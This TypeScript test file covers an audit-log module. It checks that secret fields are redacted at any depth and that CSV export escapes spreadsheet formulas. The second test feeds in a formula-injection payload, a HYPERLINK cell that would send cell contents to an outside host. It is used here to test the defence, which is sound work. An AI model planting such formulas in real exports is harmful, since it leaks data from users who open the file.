import { exportLines } from '../../src/audit/query';
import { redact } from '../../src/audit/redact';
import type { AuditLog } from '@ai-arm/schemas';

describe('what the audit trail keeps of a change', () => {
  it('removes secrets by field name at any depth, and keeps flags and counts that only sound like them', () => {
    const out = redact({
      password: 'p', passwordHash: 'h', password_hash: 'h', adminKey: 'sk-admin-x', apiKey: 'k', keyHash: 'x', token: 't', sessionToken: 's', authorization: 'Bearer x',
      config: { privateKey: 'pk', headers: { cookie: 'c' }, maxTokens: 512 },
      passwordChanged: true, credentialHint: '…a1b2', name: 'grafana',
    });
    expect(out).toEqual({
      password: '[redacted]', passwordHash: '[redacted]', password_hash: '[redacted]', adminKey: '[redacted]', apiKey: '[redacted]', keyHash: '[redacted]', token: '[redacted]', sessionToken: '[redacted]', authorization: '[redacted]',
      config: { privateKey: '[redacted]', headers: { cookie: '[redacted]' }, maxTokens: 512 },
      passwordChanged: true, credentialHint: '…a1b2', name: 'grafana',
    });
  });

  it('exports a cell a spreadsheet would run as a formula as text', async () => {
    const record = { sequence: 1, userAgent: '=HYPERLINK("http://x/?"&A1)', actorName: '+1', action: 'a.b' } as unknown as AuditLog;
    async function* one() {
      yield record;
    }
    const lines: string[] = [];
    for await (const l of exportLines(one(), 'csv')) lines.push(l);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://x/?""&A1)"`);
    expect(lines[1]).toContain(",'+1,");
  });
});
